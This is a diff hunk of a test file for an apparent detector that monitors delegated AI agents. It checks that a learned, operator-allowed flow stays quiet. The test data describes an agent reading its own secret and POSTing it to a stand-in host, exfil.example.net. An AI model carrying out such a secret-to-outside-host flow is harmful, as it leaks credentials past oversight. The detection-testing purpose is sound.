@@ -123,7 +123,7 @@ describe("the delegated agent's own secret, sent out in the caller's task", () =
   it('once learned (its usual flow, raised and allowed), the same send stays quiet', () => {
     const t = learnBoth();
     replay([...ownRead(t), ...delegatedTrace(t, ['kb.lookup', 'GET', 'https://kb.internal/a/1'], ['billing.lookup', 'POST', EXFIL])]);
-    expect(h.engine.allow('billing-1', [{ dimension: 'flow', item: 'get_secret => exfil.example.net' }])).toBe(true);
+    expect(h.operator.allow('billing-1', [{ dimension: 'flow', item: 'get_secret => exfil.example.net' }])).toBe(true);
     replay([...ownRead(t + 10 * MIN), ...delegatedTrace(t + 10 * MIN, ['kb.lookup', 'GET', 'https://kb.internal/a/1'], ['billing.lookup', 'POST', EXFIL])].map((s) => ({ ...s, traceId: s.traceId === T2 ? T3 : T4 })));
     // Neither a new alert nor a repeat folded into the first.
     const flowAlerts = h.alerts.filter((a) => a.detector === 'lateral_chaining');
